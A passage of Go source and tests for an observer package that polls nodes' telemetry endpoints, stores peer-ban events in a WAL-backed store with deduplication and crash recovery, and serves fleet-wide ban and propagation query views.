	if got := len(store.Bans()); got != 2 {
		t.Fatalf("Bans = %d peers, want both generations' bans", got)
	}
	for _, ev := range store.LatestByStream("n1", StreamNode) {
		if ev.Kind == KindNodeRestart {
			restarts++
		}
	}
	if restarts != 1 {
		t.Fatalf("node_restart events = %d, want 1", restarts)
	}
	cur, _ := store.Cursor("n1")
	if cur.Base == 0 {
		t.Fatalf("cursor base not bumped: %+v", cur)
	}
}

// TestObserverJournalGap: a poller that falls behind a small ring records a
// journal_gap event carrying the dropped count.
func TestObserverJournalGap(t *testing.T) {
	fn := newFakeNode(t, "n1")
	fn.mu.Lock()
	fn.journal = telemetry.NewJournal(8) // tiny ring
	fn.srv = telemetry.NewServer(fn.reg, fn.journal)
	fn.srv.SetNodeID("n1")
	fn.mu.Unlock()

	store := mustOpen(t, t.TempDir())
	defer store.Close()
	o := New(Config{Store: store, Targets: []NodeTarget{fn.target()}})

	for i := 0; i < 20; i++ {
		fn.record(telemetry.Event{Type: telemetry.EventScore, Peer: "10.0.0.1:1", Rule: "r", Value: 1})
	}
	if err := o.PollNode("n1"); err != nil {
		t.Fatal(err)
	}

	var gap *Event
	evs := store.LatestByStream("n1", StreamJournal)
	for _, ev := range evs {
		if ev.Kind == KindJournalGap {
			g := ev
			gap = &g
		}
	}
	if gap == nil {
		// LatestByStream keys by Peer; the gap event has Peer "".
		t.Fatalf("no journal_gap event recorded; streams: %+v", evs)
	}
	if gap.Value != 12 {
		t.Fatalf("gap dropped = %v, want 12", gap.Value)
	}
	cur, _ := store.Cursor("n1")
	if cur.Dropped != 12 {
		t.Fatalf("cursor dropped = %d, want 12", cur.Dropped)
	}
}

// TestObserverStartStop: the background pollers run and shut down cleanly.
func TestObserverStartStop(t *testing.T) {
	fn := newFakeNode(t, "n1")
	store := mustOpen(t, t.TempDir())
	defer store.Close()

	fn.ban("10.3.3.3:3333")
	o := New(Config{Store: store, Targets: []NodeTarget{fn.target()}, Interval: 5 * time.Millisecond})
	o.Start()
	defer o.Stop()

	for i := 0; i < 200; i++ {
		if len(store.Bans()) == 1 {
			break
		}
		time.Sleep(5 * time.Millisecond)
	}
	if len(store.Bans()) != 1 {
		t.Fatalf("background poller never ingested the ban; errs: %v", o.Errs())
	}
	o.Stop() // second Stop is a no-op
}
