package observer

import (
	"os"
	"path/filepath"
	"testing"
	"time"
)

func testEvent(node string, seq uint64, kind, peer string) Event {
	return Event{
		Node:   node,
		Stream: StreamJournal,
		Seq:    seq,
		At:     time.Unix(1700000000+int64(seq), 0),
		Kind:   kind,
		Peer:   peer,
		Value:  float64(seq),
	}
}

func mustOpen(t *testing.T, dir string) *Store {
	t.Helper()
	s, err := OpenStore(Options{Dir: dir})
	if err != nil {
		t.Fatalf("OpenStore: %v", err)
	}
	return s
}

// TestStoreIngestDedup: the (node, stream, seq) key is the identity — the
// same event ingested twice is stored once.
func TestStoreIngestDedup(t *testing.T) {
	s := mustOpen(t, t.TempDir())
	defer s.Close()

	ev := testEvent("n1", 1, "ban", "10.0.0.1:8333")
	if !s.Ingest(ev) {
		t.Fatal("first ingest rejected")
	}
	if s.Ingest(ev) {
		t.Fatal("duplicate ingest accepted")
	}
	if got := s.Status().Events; got != 1 {
		t.Fatalf("Events = %d, want 1", got)
	}
	// Same seq on another node or stream is a different event.
	if !s.Ingest(testEvent("n2", 1, "ban", "10.0.0.1:8333")) {
		t.Fatal("same seq on another node rejected")
	}
	ev2 := ev
	ev2.Stream = StreamEvidence
	if !s.Ingest(ev2) {
		t.Fatal("same seq on another stream rejected")
	}
}

// TestStoreAutoSeq: zero-Seq events get consecutive per-(node, stream)
// sequence numbers.
func TestStoreAutoSeq(t *testing.T) {
	s := mustOpen(t, t.TempDir())
	defer s.Close()

	for i := 0; i < 3; i++ {
		if !s.Ingest(Event{Node: "n1", Stream: StreamHealth, Kind: KindHealth, Detail: "degraded"}) {
			t.Fatalf("auto-seq ingest %d rejected", i)
		}
	}
	if got := s.LastSeq("n1", StreamHealth); got != 3 {
		t.Fatalf("LastSeq = %d, want 3", got)
	}
	// The auto counter continues after an explicit high seq.
	s.Ingest(Event{Node: "n1", Stream: StreamHealth, Seq: 10, Kind: KindHealth})
	s.Ingest(Event{Node: "n1", Stream: StreamHealth, Kind: KindHealth})
	if got := s.LastSeq("n1", StreamHealth); got != 11 {
		t.Fatalf("LastSeq after explicit = %d, want 11", got)
	}
}

// TestStoreRecoveryRoundTrip: events and cursors survive Close + reopen via
// WAL replay, and again after a snapshot.
func TestStoreRecoveryRoundTrip(t *testing.T) {
	dir := t.TempDir()
	s := mustOpen(t, dir)
	for i := uint64(1); i <= 50; i++ {
		s.Ingest(testEvent("n1", i, "score", "10.0.0.1:8333"))
	}
	s.Ingest(testEvent("n2", 1, "ban", "10.0.0.2:8333"))
	if err := s.AckCursor("n1", Cursor{Next: 50, Dropped: 3}); err != nil {
		t.Fatalf("AckCursor: %v", err)
	}
	if err := s.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}

	s2 := mustOpen(t, dir)
	if got := s2.Status().Events; got != 51 {
		t.Fatalf("recovered Events = %d, want 51", got)
	}
	cur, ok := s2.Cursor("n1")
	if !ok || cur.Next != 50 || cur.Dropped != 3 {
		t.Fatalf("recovered cursor = %+v ok=%v, want {50 3}", cur, ok)
	}
	if got := len(s2.PeerEvents("10.0.0.1:8333")); got != 50 {
		t.Fatalf("recovered peer events = %d, want 50", got)
	}

	// Snapshot, append more, reopen: snapshot + tail replay.
	if err := s2.Snapshot(); err != nil {
		t.Fatalf("Snapshot: %v", err)
	}
	s2.Ingest(testEvent("n2", 2, "ban", "10.0.0.2:8333"))
	s2.Close()

	s3 := mustOpen(t, dir)
	defer s3.Close()
	if got := s3.Status().Events; got != 52 {
		t.Fatalf("post-snapshot Events = %d, want 52", got)
	}
	if s3.Status().SnapshotLSN == 0 {
		t.Fatal("snapshot LSN not recovered")
	}
}

// TestStoreRecoveryTruncatesCorruptTail: a torn byte mid-log costs the tail
// after it, never the prefix, and never fails Open.
func TestStoreRecoveryTruncatesCorruptTail(t *testing.T) {
	dir := t.TempDir()
	s := mustOpen(t, dir)
	for i := uint64(1); i <= 20; i++ {
		s.Ingest(testEvent("n1", i, "score", "10.0.0.1:8333"))
	}
	s.Close()

	// Flip a byte two-thirds into the segment body.
	segs, err := listDir(dir)
	if err != nil || len(segs) == 0 {
		t.Fatalf("no segments: %v", err)
	}
	path := segs[0]
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	off := len(b) * 2 / 3
	b[off] ^= 0xff
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}

	s2 := mustOpen(t, dir)
	defer s2.Close()
	st := s2.Status()
	if st.Truncations == 0 {
		t.Fatal("corruption not counted")
	}
	if st.Events == 0 || st.Events >= 20 {
		t.Fatalf("recovered Events = %d, want a proper non-empty prefix of 20", st.Events)
	}
	// The surviving prefix is exactly events 1..st.Events, no holes.
	for i := uint64(1); i <= uint64(st.Events); i++ {
		if !s2.HasEvent(Key{Node: "n1", Stream: StreamJournal, Seq: i}) {
			t.Fatalf("hole at seq %d after truncation", i)
		}
	}
}

// TestStoreCursorGenerations: a bigger Base replaces the cursor position
// wholesale; within a generation the cursor is forward-only.
func TestStoreCursorGenerations(t *testing.T) {
	s := mustOpen(t, t.TempDir())
	defer s.Close()

	s.AckCursor("n1", Cursor{Next: 40, Dropped: 2})
	s.AckCursor("n1", Cursor{Next: 10}) // regress within generation: ignored
	cur, _ := s.Cursor("n1")
	if cur.Next != 40 || cur.Dropped != 2 {
		t.Fatalf("cursor after regress = %+v, want {40 2 0}", cur)
	}
	// New generation: Next restarts at 0 legitimately, Dropped carries over.
	s.AckCursor("n1", Cursor{Next: 0, Base: 40, Dropped: 2})
	cur, _ = s.Cursor("n1")
	if cur.Base != 40 || cur.Next != 0 {
		t.Fatalf("cursor after generation bump = %+v, want base 40 next 0", cur)
	}
	// Older generation acks are ignored.
	s.AckCursor("n1", Cursor{Next: 99, Base: 0})
	cur, _ = s.Cursor("n1")
	if cur.Base != 40 || cur.Next != 0 {
		t.Fatalf("stale generation accepted: %+v", cur)
	}
}

// TestStoreSnapshotPrunes: generations beyond SnapshotKeep and covered WAL
// segments are deleted.
func TestStoreSnapshotPrunes(t *testing.T) {
	dir := t.TempDir()
	s, err := OpenStore(Options{Dir: dir, SnapshotKeep: 2})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()

	for round := 0; round < 4; round++ {
		for i := 0; i < 10; i++ {
			s.Ingest(Event{Node: "n1", Stream: StreamHealth, Kind: KindHealth, Detail: "x"})
		}
		if err := s.Snapshot(); err != nil {
			t.Fatalf("Snapshot round %d: %v", round, err)
		}
	}
	segs, snaps, err := listDirSplit(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(snaps) > 2 {
		t.Fatalf("retained %d snapshots, want <= 2", len(snaps))
	}
	if len(segs) > 3 {
		t.Fatalf("retained %d segments, want <= 3", len(segs))
	}
}

// TestStoreQueryViews: Bans, Propagation, and Nodes aggregate across nodes.
func TestStoreQueryViews(t *testing.T) {
	s := mustOpen(t, t.TempDir())
	defer s.Close()

	base := time.Unix(1700000000, 0)
	attacker := "10.9.9.9:4444"
	s.Ingest(Event{Node: "n1", Stream: StreamJournal, Seq: 5, At: base, Kind: "ban", Peer: attacker, Value: 100})
	s.Ingest(Event{Node: "n2", Stream: StreamJournal, Seq: 9, At: base.Add(3 * time.Second), Kind: "ban", Peer: attacker, Value: 100})
	s.Ingest(Event{Node: "n3", Stream: StreamJournal, Seq: 2, At: base.Add(500 * time.Millisecond), Kind: "ban", Peer: attacker, Value: 100})
	s.Ingest(Event{Node: "n1", Stream: StreamEvidence, Seq: 5, Kind: KindBanEvidence, Peer: attacker, Detail: "duplicate-version x1 (+100) -> score 100"})
	// An unrelated scoring event must not show up as a ban.
	s.Ingest(Event{Node: "n1", Stream: StreamJournal, Seq: 6, At: base, Kind: "score", Peer: "10.0.0.1:8333", Value: 10})

	bans := s.Bans()
	if len(bans) != 1 || bans[0].Peer != attacker {
		t.Fatalf("Bans = %+v, want one entry for %s", bans, attacker)
	}
	if len(bans[0].Sightings) != 3 {
		t.Fatalf("sightings = %d, want 3", len(bans[0].Sightings))
	}
	if bans[0].Sightings[0].Node != "n1" || bans[0].Sightings[2].Node != "n2" {
		t.Fatalf("sightings not time-ordered: %+v", bans[0].Sightings)
	}
	if bans[0].Sightings[0].Evidence == "" {
		t.Fatal("evidence not joined onto the n1 sighting")
	}

	prop := s.Propagation()
	if len(prop) != 1 {
		t.Fatalf("Propagation = %+v, want 1 row", prop)
	}
	p := prop[0]
	if p.NodesBanned != 3 || p.FirstNode != "n1" || p.LastNode != "n2" {
		t.Fatalf("propagation row = %+v", p)
	}
	if p.Spread < 2.9 || p.Spread > 3.1 {
		t.Fatalf("spread = %v, want ~3s", p.Spread)
	}

	nodes := s.Nodes()
	if len(nodes) != 3 {
		t.Fatalf("Nodes = %d rows, want 3", len(nodes))
	}
	if nodes[0].Node != "n1" || nodes[0].Bans != 1 {
		t.Fatalf("n1 summary = %+v", nodes[0])
	}
}

// listDir returns the segment file paths in dir.
func listDir(dir string) ([]string, error) {
	segs, _, err := listDirSplit(dir)
	return segs, err
}

func listDirSplit(dir string) (segs, snaps []string, err error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, nil, err
	}
	for _, e := range entries {
		switch filepath.Ext(e.Name()) {
		case ".log":
			segs = append(segs, filepath.Join(dir, e.Name()))
		case ".snap":
			snaps = append(snaps, filepath.Join(dir, e.Name()))
		}
	}
	return segs, snaps, nil
}
