package observer

import (
	"encoding/json"
	"net/http"
	"net/url"
	"sort"
	"strings"
	"time"
)

// Fleet-wide query views. Everything here is read-only aggregation over the
// store tables, answering the questions the paper's cross-node experiments
// pose: which peers are banned where, on what evidence, and how long
// between the first and last node banning them.

// BanSighting is one node banning one peer.
type BanSighting struct {
	Node     string    `json:"node"`
	Peer     string    `json:"peer"`
	At       time.Time `json:"at"`
	Score    float64   `json:"score"`
	Seq      uint64    `json:"seq"`
	Evidence string    `json:"evidence,omitempty"`
}

// PeerBans aggregates every sighting of one peer being banned across the
// fleet.
type PeerBans struct {
	Peer      string        `json:"peer"`
	Sightings []BanSighting `json:"sightings"`
}

// Propagation is the cross-node spread of one peer's ban: how many nodes
// banned it, when the first and last did, and the latency between them —
// the fleet-level visibility of a Table I verdict.
type Propagation struct {
	Peer        string    `json:"peer"`
	NodesBanned int       `json:"nodes_banned"`
	FirstAt     time.Time `json:"first_at"`
	FirstNode   string    `json:"first_node"`
	LastAt      time.Time `json:"last_at"`
	LastNode    string    `json:"last_node"`
	Spread      float64   `json:"spread_seconds"`
}

// NodeSummary is one node's footprint in the store.
type NodeSummary struct {
	Node    string `json:"node"`
	Events  int    `json:"events"`
	Bans    int    `json:"bans"`
	Cursor  Cursor `json:"cursor"`
	Info    string `json:"info,omitempty"`
	Healthy *bool  `json:"healthy,omitempty"`
}

// isBan reports whether ev is a journal ban verdict.
func isBan(ev *Event) bool {
	return ev.Stream == StreamJournal && ev.Kind == "ban"
}

// Bans returns every peer banned anywhere in the fleet, each with its
// per-node sightings in ban-time order, sorted by peer for stable output.
func (s *Store) Bans() []PeerBans {
	s.mu.Lock()
	defer s.mu.Unlock()
	byPeer := make(map[string][]BanSighting)
	for i := range s.events {
		ev := &s.events[i]
		if !isBan(ev) {
			continue
		}
		byPeer[ev.Peer] = append(byPeer[ev.Peer], s.sightingLocked(ev))
	}
	out := make([]PeerBans, 0, len(byPeer))
	for peer, sightings := range byPeer {
		sort.Slice(sightings, func(i, j int) bool { return sightings[i].At.Before(sightings[j].At) })
		out = append(out, PeerBans{Peer: peer, Sightings: sightings})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Peer < out[j].Peer })
	return out
}

// sightingLocked renders one ban event, joining any StreamEvidence row the
// poller attached under the same (node, seq).
func (s *Store) sightingLocked(ev *Event) BanSighting {
	sight := BanSighting{Node: ev.Node, Peer: ev.Peer, At: ev.At, Score: ev.Value, Seq: ev.Seq}
	if _, ok := s.byKey[Key{Node: ev.Node, Stream: StreamEvidence, Seq: ev.Seq}]; ok {
		for _, idx := range s.byPeer[ev.Peer] {
			e := &s.events[idx]
			if e.Node == ev.Node && e.Stream == StreamEvidence && e.Seq == ev.Seq {
				sight.Evidence = e.Detail
				break
			}
		}
	}
	return sight
}

// PeerEvents returns every stored event involving peer, in ingest order.
func (s *Store) PeerEvents(peer string) []Event {
	s.mu.Lock()
	defer s.mu.Unlock()
	idxs := s.byPeer[peer]
	out := make([]Event, 0, len(idxs))
	for _, idx := range idxs {
		out = append(out, s.events[idx])
	}
	return out
}

// Propagation computes each banned peer's cross-node spread. Only a peer's
// first ban per node counts — rebans after expiry measure policy, not
// propagation.
func (s *Store) Propagation() []Propagation {
	s.mu.Lock()
	defer s.mu.Unlock()
	type firstBan struct {
		at   time.Time
		node string
	}
	perPeer := make(map[string]map[string]firstBan) // peer -> node -> first ban
	for i := range s.events {
		ev := &s.events[i]
		if !isBan(ev) {
			continue
		}
		nodes := perPeer[ev.Peer]
		if nodes == nil {
			nodes = make(map[string]firstBan)
			perPeer[ev.Peer] = nodes
		}
		if prev, ok := nodes[ev.Node]; !ok || ev.At.Before(prev.at) {
			nodes[ev.Node] = firstBan{at: ev.At, node: ev.Node}
		}
	}
	out := make([]Propagation, 0, len(perPeer))
	for peer, nodes := range perPeer {
		p := Propagation{Peer: peer, NodesBanned: len(nodes)}
		for _, fb := range nodes {
			if p.FirstAt.IsZero() || fb.at.Before(p.FirstAt) {
				p.FirstAt, p.FirstNode = fb.at, fb.node
			}
			if fb.at.After(p.LastAt) {
				p.LastAt, p.LastNode = fb.at, fb.node
			}
		}
		p.Spread = p.LastAt.Sub(p.FirstAt).Seconds()
		out = append(out, p)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Peer < out[j].Peer })
	return out
}

// Nodes summarizes each node the observer has heard from.
func (s *Store) Nodes() []NodeSummary {
	s.mu.Lock()
	defer s.mu.Unlock()
	names := make([]string, 0, len(s.byNode))
	for node := range s.byNode {
		names = append(names, node)
	}
	for node := range s.cursors {
		if _, ok := s.byNode[node]; !ok {
			names = append(names, node)
		}
	}
	sort.Strings(names)
	out := make([]NodeSummary, 0, len(names))
	for _, node := range names {
		sum := NodeSummary{Node: node, Events: len(s.byNode[node]), Cursor: s.cursors[node]}
		for _, idx := range s.byNode[node] {
			ev := &s.events[idx]
			switch {
			case isBan(ev):
				sum.Bans++
			case ev.Stream == StreamNode && ev.Kind == KindNodeInfo:
				sum.Info = ev.Detail
			case ev.Stream == StreamHealth && ev.Kind == KindHealth:
				healthy := ev.Detail == "ok"
				sum.Healthy = &healthy
			}
		}
		out = append(out, sum)
	}
	return out
}

// QueryHandler serves the fleet query API:
//
//	GET /fleet/bans         — every banned peer with per-node sightings
//	GET /fleet/peers/<id>   — full event history for one peer (404 unknown)
//	GET /fleet/propagation  — per-ban first-seen→last-seen spread
//	GET /fleet/nodes        — per-node summaries with cursors
//	GET /fleet/status       — store shape (LSN, counts, truncations)
//
// All responses are JSON with Content-Type set; unknown peers are 404, not
// 200-with-empty.
func (s *Store) QueryHandler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/fleet/bans", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, s.Bans())
	})
	mux.HandleFunc("/fleet/propagation", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, s.Propagation())
	})
	mux.HandleFunc("/fleet/nodes", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, s.Nodes())
	})
	mux.HandleFunc("/fleet/status", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, s.Status())
	})
	mux.HandleFunc("/fleet/peers/", func(w http.ResponseWriter, r *http.Request) {
		raw := strings.TrimPrefix(r.URL.Path, "/fleet/peers/")
		peer, err := url.PathUnescape(raw)
		if err != nil || peer == "" {
			writeJSON(w, http.StatusBadRequest, map[string]string{"error": "bad peer identifier"})
			return
		}
		events := s.PeerEvents(peer)
		if len(events) == 0 {
			writeJSON(w, http.StatusNotFound, map[string]string{"error": "unknown peer", "peer": peer})
			return
		}
		writeJSON(w, http.StatusOK, map[string]any{"peer": peer, "events": events})
	})
	return mux
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}
