package observer

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"sort"
	"strings"
	"sync"
	"time"

	"banscore/internal/telemetry"
	"banscore/internal/vclock"
)

// Observer polls a fleet of nodes' telemetry surfaces and feeds the store.
// One goroutine per node target, each running the same poll pass:
//
//  1. /debug/journal?since=<cursor> — the incremental feed. Events are
//     rebased into the store's sequence space (Cursor.Base), ingested, and
//     only then is the advanced cursor acknowledged — the append order that
//     makes the ack crash-safe. A journal total below the request's cursor
//     means the node restarted: a node_restart event is recorded and a new
//     generation base is committed before any of the new generation's
//     events, so the dedup mapping survives observer crashes too.
//  2. /healthz — status transitions become StreamHealth events.
//  3. /debug/banstore — durability health flips become StreamBanstore
//     events (nodes without a ban store simply 404).
//  4. /debug/reputation — netgroup verdict transitions become
//     StreamNetgroup events.
//  5. /debug/bans/<peer> — forensic enrichment for each ban the journal
//     just delivered, stored on StreamEvidence under the ban's sequence.
//  6. /metrics?format=json — the node_info identity gauge, recorded once
//     per distinct identity on StreamNode.
//
// Transition trackers are seeded from the store at startup, so an observer
// restart re-emits nothing that didn't actually change.
type Observer struct {
	store    *Store
	targets  []NodeTarget
	interval time.Duration
	clock    vclock.Clock
	client   *http.Client

	mu      sync.Mutex
	quit    chan struct{}
	done    chan struct{}
	started bool

	polls  map[string]*pollState
	errsMu sync.Mutex
	errs   map[string]string // node -> last poll error ("" when healthy)
}

// NodeTarget is one node to follow.
type NodeTarget struct {
	// ID is the node's fleet identifier (its -node-id).
	ID string `json:"id"`

	// BaseURL is the node's telemetry endpoint, e.g. "http://127.0.0.1:19001".
	BaseURL string `json:"base_url"`
}

// Config parameterizes New.
type Config struct {
	// Store receives everything the pollers bring home. Required.
	Store *Store

	// Targets are the nodes to follow.
	Targets []NodeTarget

	// Interval is the poll period. Default 250ms.
	Interval time.Duration

	// Clock supplies time for synthesized event stamps and poll pacing.
	// Default vclock.System().
	Clock vclock.Clock

	// Client performs the HTTP polls. Default: a client with a 5s timeout.
	Client *http.Client
}

// pollState is one target's in-memory tracking between polls. mu serializes
// whole poll passes, so a direct PollNode/PollAll caller (the fleet replay's
// waitForBans, tests) is safe alongside the background poll loop that Start
// runs for the same node.
type pollState struct {
	mu        sync.Mutex
	target    NodeTarget
	cursor    Cursor
	health    string            // last /healthz status ("" unknown)
	banstore  string            // last /debug/banstore verdict ("" unknown)
	netgroups map[string]string // group -> last verdict
	nodeInfo  string            // last node_info identity recorded
}

// New builds an observer over cfg.Store. Call Start to begin polling, or
// PollNode/PollAll directly (tests, the fleet experiment's replay). Direct
// polls are safe concurrently with the background loops: each node's poll
// pass holds that node's pollState lock for its duration.
func New(cfg Config) *Observer {
	if cfg.Interval <= 0 {
		cfg.Interval = 250 * time.Millisecond
	}
	if cfg.Clock == nil {
		cfg.Clock = vclock.System()
	}
	if cfg.Client == nil {
		cfg.Client = &http.Client{Timeout: 5 * time.Second}
	}
	o := &Observer{
		store:    cfg.Store,
		targets:  cfg.Targets,
		interval: cfg.Interval,
		clock:    cfg.Clock,
		client:   cfg.Client,
		polls:    make(map[string]*pollState),
		errs:     make(map[string]string),
	}
	for _, t := range cfg.Targets {
		o.polls[t.ID] = o.seedState(t)
	}
	return o
}

// seedState rebuilds a target's transition trackers from the store, so a
// restarted observer continues instead of re-emitting.
func (o *Observer) seedState(t NodeTarget) *pollState {
	st := &pollState{target: t, netgroups: make(map[string]string)}
	if cur, ok := o.store.Cursor(t.ID); ok {
		st.cursor = cur
	}
	for _, ev := range o.store.LatestByStream(t.ID, StreamHealth) {
		st.health = ev.Detail
	}
	for _, ev := range o.store.LatestByStream(t.ID, StreamBanstore) {
		st.banstore = ev.Detail
	}
	for group, ev := range o.store.LatestByStream(t.ID, StreamNetgroup) {
		st.netgroups[group] = ev.Detail
	}
	for _, ev := range o.store.LatestByStream(t.ID, StreamNode) {
		if ev.Kind == KindNodeInfo {
			st.nodeInfo = ev.Detail
		}
	}
	return st
}

// spawn starts fn on its own goroutine — the one audited launch site the
// gospawn analyzer pins this package to.
func spawn(fn func()) { go fn() }

// Start launches one poll loop per target. Stop shuts them down.
func (o *Observer) Start() {
	o.mu.Lock()
	defer o.mu.Unlock()
	if o.started {
		return
	}
	o.started = true
	o.quit = make(chan struct{})
	o.done = make(chan struct{})
	quit := o.quit
	var wg sync.WaitGroup
	wg.Add(len(o.targets))
	for _, t := range o.targets {
		st := o.polls[t.ID]
		spawn(func() {
			defer wg.Done()
			o.pollLoop(st, quit)
		})
	}
	done := o.done
	spawn(func() {
		wg.Wait()
		close(done)
	})
}

// Stop halts the poll loops and waits for them to exit. The store is left
// open; Close it separately.
func (o *Observer) Stop() {
	o.mu.Lock()
	if !o.started {
		o.mu.Unlock()
		return
	}
	o.started = false
	quit, done := o.quit, o.done
	o.mu.Unlock()
	close(quit)
	<-done
}

// pollLoop runs one target's poll pass every interval until Stop.
func (o *Observer) pollLoop(st *pollState, quit chan struct{}) {
	for {
		o.recordErr(st.target.ID, o.PollNode(st.target.ID))
		fired := make(chan struct{})
		timer := o.clock.AfterFunc(o.interval, func() { close(fired) })
		select {
		case <-quit:
			timer.Stop()
			return
		case <-fired:
		}
	}
}

func (o *Observer) recordErr(node string, err error) {
	o.errsMu.Lock()
	if err != nil {
		o.errs[node] = err.Error()
	} else {
		o.errs[node] = ""
	}
	o.errsMu.Unlock()
}

// Errs returns each node's last poll error ("" means the last pass
// succeeded).
func (o *Observer) Errs() map[string]string {
	o.errsMu.Lock()
	defer o.errsMu.Unlock()
	out := make(map[string]string, len(o.errs))
	for k, v := range o.errs {
		out[k] = v
	}
	return out
}

// PollAll runs one poll pass against every target, returning the first
// error (all targets are still polled).
func (o *Observer) PollAll() error {
	var first error
	for _, t := range o.targets {
		err := o.PollNode(t.ID)
		o.recordErr(t.ID, err)
		if err != nil && first == nil {
			first = err
		}
	}
	return first
}

// PollNode runs one full poll pass against one target. Passes for the same
// node are mutually exclusive — concurrent callers (a background poll loop
// plus a direct caller) serialize rather than tearing the cursor.
func (o *Observer) PollNode(nodeID string) error {
	o.mu.Lock()
	st := o.polls[nodeID]
	o.mu.Unlock()
	if st == nil {
		return fmt.Errorf("observer: unknown node %q", nodeID)
	}
	st.mu.Lock()
	defer st.mu.Unlock()
	if err := o.pollJournal(st); err != nil {
		return err
	}
	o.pollHealth(st)
	o.pollBanstore(st)
	o.pollReputation(st)
	o.pollNodeInfo(st)
	return nil
}

// getJSON fetches base+path and decodes the body into v. Non-2xx statuses
// are returned as errNotFound/plain errors after the body is drained; 503
// is NOT an error for /healthz-style endpoints, so callers that care pass
// accept503.
func (o *Observer) getJSON(base, path string, v any, accept ...int) error {
	resp, err := o.client.Get(strings.TrimRight(base, "/") + path)
	if err != nil {
		return err
	}
	defer func() {
		_, _ = io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
	}()
	ok := resp.StatusCode >= 200 && resp.StatusCode < 300
	for _, code := range accept {
		if resp.StatusCode == code {
			ok = true
		}
	}
	if !ok {
		return fmt.Errorf("observer: GET %s: %s", path, resp.Status)
	}
	return json.NewDecoder(resp.Body).Decode(v)
}

// pollJournal consumes the incremental journal feed and acknowledges it.
func (o *Observer) pollJournal(st *pollState) error {
	var resp telemetry.JournalResponse
	path := fmt.Sprintf("/debug/journal?since=%d", st.cursor.Next)
	if err := o.getJSON(st.target.BaseURL, path, &resp); err != nil {
		return err
	}

	if resp.Total < st.cursor.Next {
		// The node restarted: its journal total is monotonic within a
		// process lifetime, so a total below our cursor means the sequence
		// space began again. (A restarted node that already out-produced
		// the old cursor is indistinguishable from a live one — detection
		// is best-effort, bounded by one poll interval of new events.)
		// Commit a new generation base past everything stored BEFORE
		// ingesting any of the new generation, so the base is at least as
		// durable as the events mapped through it.
		newBase := o.store.LastSeq(st.target.ID, StreamJournal)
		o.store.Ingest(Event{
			Node:   st.target.ID,
			Stream: StreamNode,
			At:     o.clock.Now(),
			Kind:   KindNodeRestart,
			Detail: fmt.Sprintf("journal total went backwards: had cursor %d, node reports total %d", st.cursor.Next, resp.Total),
		})
		st.cursor = Cursor{Next: 0, Dropped: st.cursor.Dropped, Base: newBase}
		return o.store.AckCursor(st.target.ID, st.cursor)
	}

	if resp.Dropped > 0 && len(resp.Events) > 0 {
		// The ring overwrote events between our cursor and the oldest
		// retained entry. The gap event borrows the last dropped sequence
		// number — a slot no real event can ever fill.
		o.store.Ingest(Event{
			Node:   st.target.ID,
			Stream: StreamJournal,
			Seq:    st.cursor.Base + resp.Events[0].Seq - 1,
			At:     o.clock.Now(),
			Kind:   KindJournalGap,
			Value:  float64(resp.Dropped),
			Detail: fmt.Sprintf("ring overwrote %d events before cursor %d", resp.Dropped, resp.Events[0].Seq),
		})
	}

	var newBans []telemetry.Event
	for _, ev := range resp.Events {
		ingested := o.store.Ingest(Event{
			Node:   st.target.ID,
			Stream: StreamJournal,
			Seq:    st.cursor.Base + ev.Seq,
			At:     ev.At,
			Kind:   string(ev.Type),
			Peer:   ev.Peer,
			Rule:   ev.Rule,
			Value:  ev.Value,
			Detail: ev.Detail,
		})
		if ingested && ev.Type == telemetry.EventBan {
			newBans = append(newBans, ev)
		}
	}

	// Evidence enrichment for the bans this pass delivered, before the ack
	// so a crash retries it.
	for _, ban := range newBans {
		o.fetchEvidence(st, ban)
	}

	if resp.NextCursor > st.cursor.Next || resp.Dropped > 0 {
		st.cursor.Next = resp.NextCursor
		st.cursor.Dropped += resp.Dropped
		return o.store.AckCursor(st.target.ID, st.cursor)
	}
	return nil
}

// fetchEvidence pulls the forensic chain behind one ban and stores its
// summary under the ban's sequence on StreamEvidence.
func (o *Observer) fetchEvidence(st *pollState, ban telemetry.Event) {
	key := Key{Node: st.target.ID, Stream: StreamEvidence, Seq: st.cursor.Base + ban.Seq}
	if o.store.HasEvent(key) {
		return
	}
	var doc struct {
		Peer    string `json:"peer"`
		Records []struct {
			Rule  string `json:"rule"`
			Delta int    `json:"delta"`
			Score int    `json:"score"`
		} `json:"records"`
	}
	if err := o.getJSON(st.target.BaseURL, "/debug/bans/"+url.PathEscape(ban.Peer), &doc); err != nil {
		return // forensics not mounted or chain evicted; the ban stands on its own
	}
	if len(doc.Records) == 0 {
		return
	}
	o.store.Ingest(Event{
		Node:   st.target.ID,
		Stream: StreamEvidence,
		Seq:    key.Seq,
		At:     o.clock.Now(),
		Kind:   KindBanEvidence,
		Peer:   ban.Peer,
		Value:  float64(doc.Records[len(doc.Records)-1].Score),
		Detail: summarizeChain(doc.Records),
	})
}

// summarizeChain folds a forensic record chain into "rule xN (+delta)"
// pieces plus the final score.
func summarizeChain(records []struct {
	Rule  string `json:"rule"`
	Delta int    `json:"delta"`
	Score int    `json:"score"`
}) string {
	type agg struct {
		hits  int
		delta int
	}
	byRule := make(map[string]*agg)
	order := make([]string, 0, 4)
	for _, r := range records {
		a := byRule[r.Rule]
		if a == nil {
			a = &agg{}
			byRule[r.Rule] = a
			order = append(order, r.Rule)
		}
		a.hits++
		a.delta += r.Delta
	}
	parts := make([]string, 0, len(order))
	for _, rule := range order {
		a := byRule[rule]
